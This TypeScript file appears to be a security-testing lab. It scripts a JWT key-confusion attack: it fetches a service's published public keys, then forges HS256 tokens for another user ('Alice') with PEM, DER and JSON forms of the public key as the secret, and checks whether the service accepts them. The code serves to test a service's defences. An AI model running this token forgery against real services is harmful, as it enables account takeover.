import { createPublicKey, type JsonWebKey } from "node:crypto";
import { client } from "../client.js";
import { encode, forgery, hs256, isTakenFor, tryOwn } from "../forge.js";
import { defineLab } from "../lab.js";
import { signUp } from "../people.js";

export const keyConfusion = defineLab({
  name: "key-confusion",
  title: "The public key used as the shared secret",
  story:
    "The service signs with a key pair and publishes the public half, as it should. Mallory has a token of her own. " +
    "She signs a token for Alice with HS256, and takes the text of the public key for the secret.",
  settings: { AUTH_ALGORITHM: "ES256" },

  async hold({ url }) {
    return { alice: await signUp(url, "alice"), own: (await signUp(url, "mallory")).access };
  },

  async attack({ url, held: { alice, own }, say }) {
    await tryOwn(url, say, own);
    say("Fetch the public keys.");
    const { body } = await client(url).get("/.well-known/jwks.json");
    const keys = body["keys"] as JsonWebKey[];
    say(
      `GET /.well-known/jwks.json → ${keys.length === 1 ? "a key" : `${keys.length} keys`} on ${keys[0]?.crv}`,
      "wire",
    );
    for (const jwk of keys) {
      for (const [form, secret] of formsOf(jwk)) {
        say(`Sign a token for ${alice.username} with HS256 under the public key, ${form}.`);
        if (!(await isTakenFor(url, say, encode(forgery(own, alice, "HS256"), hs256(secret)), alice))) continue;
        return { succeeded: true, because: "GET /me answered with Alice's account to a token that Mallory signed." };
      }
    }
    return { succeeded: false, because: "The public key opened nothing: it verifies ES256 and no other algorithm." };
  },
});

/** How a library may have the bytes of a key at hand. */
function formsOf(jwk: JsonWebKey): [form: string, secret: string | Buffer][] {
  const key = createPublicKey({ key: jwk, format: "jwk" });
  const pem = key.export({ type: "spki", format: "pem" }).toString();
  return [
    ["as a PEM file", pem],
    ["as a PEM file without its last line end", pem.trimEnd()],
    ["as DER", key.export({ type: "spki", format: "der" })],
    ["as the JSON of the key set", JSON.stringify(jwk)],
  ];
}
